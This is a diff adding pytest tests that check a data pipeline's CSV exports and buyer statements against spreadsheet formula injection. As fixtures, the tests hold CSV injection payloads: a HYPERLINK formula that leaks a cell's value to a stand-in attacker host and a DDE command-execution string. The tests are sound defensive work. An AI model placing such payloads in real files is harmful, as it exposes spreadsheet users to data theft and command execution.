@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import re
 from pathlib import Path
 
@@ -9,10 +10,12 @@ import duckdb
 import pandas as pd
 import pytest
 
+from pipeline.buyers.statement import write_buyer_statements
+from pipeline.csv_files import write_csv
 from pipeline.publish.exports import export_inventory
 from pipeline.publish.publish import publish_inventory
 from pipeline.settings import REPO_ROOT
-from tests.publish.conftest import stage
+from tests.publish.conftest import append_ledger, stage
 from tests.publish.scenario import first_snapshot, second_snapshot
 
 
@@ -93,3 +96,44 @@ def test_exports_match_the_published_inventory(paths, policy):
 def test_exporting_before_any_publish_is_a_clear_error(paths):
     with pytest.raises(FileNotFoundError, match="publish before exporting"):
         export_inventory(paths.curated_db)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+
+
+def test_csv_cells_never_become_spreadsheet_formulas(paths, policy, tmp_path):
+    """OWASP CSV injection: text starting with = + - @ tab or CR is quoted in every CSV, numbers stay numbers."""
+    snapshot = first_snapshot()
+    snapshot.names = {"ART102": FORMULA, "CAR1745": "+cmd|' /C calc'!A0", "ACR701": "-2+3", "CAR1749": "@SUM(1)"}
+    stage(snapshot, paths)
+    append_ledger(paths, [("O-1", "B-1", "ART102", 2023, 10, dt.datetime(2026, 4, 20))])
+    with duckdb.connect(str(paths.ledger_db)) as ledger:
+        ledger.execute("UPDATE retirements SET beneficiary = '\tTAB' || chr(13) || '=1+1'")
+    with duckdb.connect(str(paths.work_db), read_only=True) as conn:
+        publish_inventory(conn, paths, policy)
+    parquet, csv = export_inventory(paths.curated_db)
+
+    names = pd.read_csv(csv, dtype=str, keep_default_na=False).set_index("project_id")["name"].to_dict()
+    expected = {"ART102": "'" + FORMULA, "CAR1745": "'+cmd|' /C calc'!A0", "ACR701": "'-2+3", "CAR1749": "'@SUM(1)"}
+    assert names == expected, f"every formula-like name must start with a quote in the CSV: {names}"
+    assert pd.read_parquet(parquet).set_index("project_id").at["ART102", "name"] == FORMULA, "Parquet is untouched"
+    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
+        stored = conn.execute("SELECT name FROM projects WHERE project_id = 'ART102'").fetchone()[0]
+    assert stored == FORMULA, "the published DuckDB file keeps the registry's text as it is"
+
+    statement = write_buyer_statements(paths.ledger_db, tmp_path / "statements")["B-1"]
+    row = pd.read_csv(statement, dtype=str, keep_default_na=False).iloc[0]
+    assert row["buyer_name"] == "'\tTAB\r=1+1", f"a buyer statement's text is neutralised too: {row['buyer_name']!r}"
+    assert row["tonnes"] == "10" and row["limiting_score"] == "4.0", "numbers are written as numbers"
+
+
+def test_negative_numbers_stay_numbers_and_only_text_is_quoted(tmp_path):
+    with duckdb.connect() as conn:
+        target = write_csv(
+            conn,
+            "SELECT -5 AS delta, -2.5::DOUBLE AS share, '-5' AS note, DATE '2026-01-02' AS day, 'ok' AS plain",
+            tmp_path / "cells.csv",
+        )
+    assert target.read_text().splitlines() == ["delta,share,note,day,plain", "-5,-2.5,'-5,2026-01-02,ok"], (
+        "a negative number is a number, a text cell starting with '-' is quoted, everything else is as it is"
+    )
